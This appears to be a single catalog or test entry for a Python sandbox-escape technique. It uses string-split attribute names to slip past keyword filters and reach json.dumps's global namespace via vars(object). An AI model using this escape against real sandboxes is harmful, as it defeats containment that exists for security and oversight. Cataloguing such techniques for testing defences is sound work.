# aim: take the attribute primitive of object out of its dictionary
# mechanism: vars() of a class, subscripted
# language: builtins
# reason: a class dictionary hands out every descriptor by computed name
# jail: process
# plain: loot

import json

loot(vars(object)["__getattri" + "bute__"](json.dumps, "__glo" + "bals__"))
